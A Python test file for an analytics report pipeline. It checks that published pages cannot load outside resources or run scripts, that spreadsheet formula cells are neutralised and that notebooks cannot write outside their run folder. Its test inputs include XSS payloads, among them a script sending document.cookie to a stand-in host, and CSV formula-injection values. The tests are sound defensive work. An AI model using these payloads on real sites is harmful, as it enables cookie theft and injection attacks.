"""Pages that cannot leak, checks that judge meaning: the publish check and what feeds a page."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import nbformat
import polars as pl
import pytest
from nbformat.v4 import new_code_cell, new_notebook

from analytics.catalog import load_plan
from analytics.config import catalog_dir
from analytics.exceptions import DataValidationError, ReportError
from analytics.reports.components import chart_csv
from analytics.runs.execute import execute_notebook
from analytics.runs.render import check_html

PAGE = "<html><body><p>ok</p>{}</body></html>"


@pytest.mark.parametrize(
    ("fragment", "problem"),
    [
        (
            '<a href="javascript:alert(document.cookie)">source</a>',
            "a link with the scheme `javascript:`",
        ),
        ('<a href="JaVa&#x09;Script:alert(1)">source</a>', "a link with the scheme `javascript:`"),
        ('<a href="data:text/html;base64,PHNjcmlwdD4=">open</a>', "a link with the scheme `data:`"),
        ('<img src="http://track.example/p.gif">', "a resource loaded from outside the page"),
        (
            '<img srcset="data:image/png;base64,AA 1x, //track.example/p.gif 2x">',
            "a resource loaded from outside the page",
        ),
        ('<iframe src="https://example.org/"></iframe>', "a resource loaded from outside the page"),
        (
            '<link rel="stylesheet" href="https://fonts.example/f.css">',
            "a resource loaded from outside the page",
        ),
        (
            '<div style="background:url(https://x.example/b.png)">x</div>',
            "a resource loaded from outside the page",
        ),
        (
            "<style>@import 'https://x.example/a.css';</style>",
            "a resource loaded from outside the page",
        ),
        (
            "<script>fetch('https://x.example/?c=' + document.cookie)</script>",
            "a script that requests a URL (fetch)",
        ),
        (
            "<script>var r = new XMLHttpRequest(); r.open('GET', '//x.example/')</script>",
            "a script that requests a URL (XMLHttpRequest)",
        ),
        (
            '<script>vegaEmbed("#a", {"data": {"url": "https://x.example/d.csv"}})</script>',
            "a script that requests a URL",
        ),
    ],
)
def test_a_page_that_could_reach_the_network_is_refused(fragment: str, problem: str) -> None:
    problems = check_html(PAGE.format(fragment))
    assert len(problems) == 1 and problems[0].startswith(problem), problems


@pytest.mark.parametrize(
    "fragment",
    [
        "<p>“Broadband is the base,” said Li Nan of the bureau.</p>",  # a surname, in a quote
        "<p>Source: Telecom inf. bulletin, 2024</p>",  # an abbreviation
        '<p>来源：<a class="an-src" href="https://cdnjs.com/libraries/vega">cdnjs</a></p>',
        "<p>See unpkg.com and cdn.jsdelivr.net, the mirrors the source names.</p>",
    ],
)
def test_genuine_text_and_the_house_links_pass(fragment: str) -> None:
    assert check_html(PAGE.format(fragment)) == []


def test_the_house_links_pass_beside_a_source_on_a_cdn_host() -> None:
    page = PAGE.format(
        '<a download="x.csv" href="data:text/csv;charset=utf-8;base64,77u/YQo=">CSV</a>'
        '<a href="mailto:data@stats.gov.cn">mail</a> <a href="#notes">notes</a>'
        '<img alt="chart" src="data:image/png;base64,iVBORw0KGgo=">'
        '<a href="https://cdnjs.com/libraries/vega">cdnjs</a>'
    )
    assert check_html(page) == []


def test_a_nan_a_reader_would_see_is_refused_and_a_quoted_name_is_not() -> None:
    page = PAGE.format("<q>said Li Nan</q><p>增速 nan%</p>")
    (problem,) = check_html(page)
    assert problem == "a number printed as 'nan' or 'inf' (…ok 增速 nan%…)"  # not Li Nan


def test_a_javascript_url_in_a_plan_is_refused_at_load(tmp_path: Path) -> None:
    shipped = catalog_dir() / "plans" / "tianjin_smart_city_14th.yaml"
    text = shipped.read_text(encoding="utf-8")
    url = "url: http://www.xm171.com/news/1565.html"  # targets_source, line 18 of the file
    assert text.splitlines()[17].strip() == url
    plan = tmp_path / shipped.name
    plan.write_text(text.replace(url, "url: javascript:alert(document.cookie)"), encoding="utf-8")
    with pytest.raises(DataValidationError) as err:
        load_plan(plan)
    assert [str(p) for p in err.value.problems] == [
        f"{plan}:18:8: url 'javascript:alert(document.cookie)' is not an http(s) address "
        "(a link such as https://www.tj.gov.cn/…)"
    ]


def test_formula_cells_of_a_chart_csv_are_neutralised_and_numbers_kept() -> None:
    data = pl.DataFrame(
        {
            "label": [
                '=HYPERLINK("http://x.example","5G")',
                "+86 22",
                "-1+2",
                "@SUM(A1)",
                "\tcmd",
                "-3.5",
                "天津",
            ],
            "value": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, -7.25],
        }
    )
    rows = [r[:2] for r in csv.reader(io.StringIO(chart_csv(data).removeprefix("\ufeff")))]
    assert rows == [
        ["label", "value"],
        ['\'=HYPERLINK("http://x.example","5G")', "-1.5"],
        ["'+86 22", "2.0"],
        ["'-1+2", "-3.0"],
        ["'@SUM(A1)", "4.0"],
        ["'\tcmd", "5.0"],
        ["-3.5", "6.0"],  # a plain number written as text stays a number
        ["天津", "-7.25"],
    ]


def _writer(tmp_path: Path) -> Path:
    nb = new_notebook(
        cells=[
            new_code_cell('target = ""', metadata={"tags": ["parameters"]}),
            new_code_cell('open("inside.txt", "w").write("fine")\nopen(target, "w").write("leak")'),
        ]
    )
    nb.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    path = tmp_path / "writes.ipynb"
    nbformat.write(nb, path)
    return path


@pytest.mark.parametrize("engine", ["kernel", "inprocess"])
def test_a_notebook_that_writes_outside_its_run_folder_is_refused(
    tmp_path: Path, engine: str
) -> None:
    leak = tmp_path / "elsewhere" / "leak.txt"
    leak.parent.mkdir()
    out = tmp_path / "run"
    with pytest.raises(ReportError) as err:
        execute_notebook(_writer(tmp_path), {"target": str(leak)}, out_dir=out, engine=engine)  # type: ignore[arg-type]
    assert str(err.value) == (
        f"writes.ipynb: the notebook wrote 1 file(s) outside its run folder ({leak})"
    )
    assert not (out / "report.html").exists()  # nothing to publish
    assert (out / "inside.txt").read_text() == "fine"  # its own folder is its to write
